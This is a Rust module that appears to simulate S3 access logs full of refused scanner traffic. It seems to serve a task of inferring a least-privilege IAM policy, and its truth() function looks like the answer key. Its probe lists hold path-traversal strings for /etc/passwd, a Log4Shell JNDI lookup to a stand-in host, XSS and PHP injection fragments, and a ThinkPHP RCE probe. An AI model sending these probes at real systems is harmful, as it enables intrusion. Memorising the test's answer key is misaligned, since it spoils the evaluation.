//! A small job in a log that is mostly other people's attempts to find something.

use super::{Caller, Job, Kind, Questions, Random, Run, policy};
use serde_json::{Value, json};

const ROLE: &str = "arn:aws:iam::123456789012:role/ReportRole";

/// Keys that scanners try.
const TRIED: [&str; 22] = [
    "wp-login.php",
    ".env",
    ".git/config",
    "index.php?s=/Index/\\think\\app/invokefunction",
    "<?php echo \"x\"; ?>",
    "a\"b\"c.txt",
    "it's here.txt",
    "backup 2026.zip",
    "backup+2026.zip",
    "100%.csv",
    "%2e%2e/%2e%2e/etc/passwd",
    "../../etc/passwd",
    "übersicht/größe.csv",
    "报告/二〇二六.csv",
    "отчёт.xlsx",
    "reports/../secret.csv",
    "reports/2026/08/summary.csv.bak",
    "Reports/2026/08/summary.csv",
    "/",
    "//",
    "-",
    "${jndi:ldap://203.0.113.66/a}",
];

/// Request lines that are no proper requests.
const MALFORMED: [&str; 5] = [
    "GET /%zz%c0%ae%c0%ae/etc HTTP/1.1",
    "GET /?q=\"><script>alert(1)</script> HTTP/1.1",
    "GET /cgi-bin/%%32%65%%32%65/bin/sh HTTP/1.0",
    "GET http://www.example.org/ HTTP/1.1",
    "GET /?s=a/b&c=<?php $p = \"x\";$q = explode(\".\",\"h.w.t\");?> HTTP/1.1",
];

pub(super) const JOB: Job = Job {
    name: "scanner-noise",
    bucket: "acme-reports",
    principals: &[ROLE],
    kind: Kind::Identity,
    days: 30,
    run,
    sensitive,
    truth,
};

fn run(run: &mut Run) {
    run.at(4, 0);
    let publisher = Caller::session("PublishRole", "publish");
    for name in ["summary.csv", "salaries.csv"] {
        run.put(&publisher, &report(run, 0, name));
    }
    run.at(5, 0);
    let reader = Caller::session("ReportRole", "report");
    let months = [0, 30, 365];
    for days_ago in months {
        run.get(&reader, &report(run, days_ago, "summary.csv"));
    }
    if run.random.one_in(5) {
        run.refuse(&reader, "REST.GET.OBJECT", Some(&report(run, 0, "salaries.csv")), "");
    }
    for hour in 0..run.random.between(13, 16) {
        run.at(hour as i64, 0);
        scan(run);
    }
}

/// A report of the month so many days before.
fn report(run: &Run, days_ago: i64, name: &str) -> String {
    let moment = run.moment(days_ago);
    format!("reports/{:04}/{:02}/{name}", moment.year, moment.month)
}

fn scanner(random: &mut Random) -> Caller {
    match random.between(1, 5) {
        1 => {
            let mut foreign = Caller::anonymous(random);
            foreign.requester = format!("arn:aws:iam::999988887777:user/scan{}", random.between(1, 9));
            foreign.with("\"Mozilla/5.0 (X11; Linux x86_64)")
        }
        2 => {
            // Somebody of another account, whose canonical id is all that is known.
            let mut foreign = Caller::anonymous(random);
            foreign.requester = random.hex(64);
            foreign.with("python-requests/2.32.3")
        }
        _ => Caller::anonymous(random),
    }
}

fn scan(run: &mut Run) {
    let mut scanner = scanner(&mut run.random);
    match run.random.between(1, 20) {
        1 | 2 => {
            let line = run.random.pick(&MALFORMED);
            let event = run.refuse(&scanner, "REST.GET.OBJECT", None, "");
            event.request_line = Some(line.to_owned());
            event.fail(400, "InvalidURI");
        }
        3 => {
            // Very long.
            let (length, depth) = (run.random.between(1_000, 9_000) as usize, run.random.between(1, 30) as usize);
            let key = format!("{}{}", "../".repeat(depth), "A".repeat(900));
            scanner.referer = format!("http://203.0.113.66/?{}", "x".repeat(length));
            let query = format!("q={}", "%41".repeat(length / 3));
            run.refuse(&scanner, "REST.GET.OBJECT", Some(&key), &query);
        }
        4 => {
            let event = run.refuse(&scanner, "REST.POST.NOTIFICATION", None, "notification");
            event.fail(405, "MethodNotAllowed");
        }
        5 => {
            run.refuse(&scanner, "REST.GET.BUCKET", None, "prefix=reports/&max-keys=1");
        }
        6 => {
            run.refuse(&scanner, "REST.GET.ACL", None, "acl");
        }
        7 => {
            let event = run.refuse(&scanner, "REST.GET.OBJECT", Some("reports/2026/08/summary.csv"), "");
            event.fail(403, "InvalidAccessKeyId");
        }
        8 => {
            let event = run.refuse(&scanner, "REST.GET.OBJECT", Some("reports/2026/09/summary.csv"), "");
            event.fail(503, "SlowDown");
        }
        _ => {
            let key = run.random.pick(&TRIED);
            let operation =
                run.random.pick(&["REST.GET.OBJECT", "REST.GET.OBJECT", "REST.HEAD.OBJECT", "REST.PUT.OBJECT"]);
            if run.random.one_in(3) {
                scanner.referer = format!("http://example.org/{key}");
            }
            run.refuse(&scanner, operation, Some(key), "");
        }
    }
}

fn sensitive(questions: &mut Questions<'_>) {
    let others = questions.keys(|_, key| key.ends_with("/salaries.csv"));
    questions.objects(ROLE, "s3:GetObject", &others);
    for key in TRIED {
        questions.object(ROLE, "s3:GetObject", key);
    }
    let summaries = questions.keys(|_, key| key.ends_with("/summary.csv"));
    questions.objects(ROLE, "s3:PutObject", &summaries);
    questions.objects(ROLE, "s3:DeleteObject", &summaries);
    questions.bucket(ROLE, &["s3:ListBucket", "s3:GetBucketAcl", "s3:PutBucketPolicy"]);
    questions.elsewhere(ROLE, "reports/2026/08/summary.csv");
}

fn truth() -> Value {
    policy(json!([{
        "Effect": "Allow",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::acme-reports/reports/*/*/summary.csv",
    }]))
}
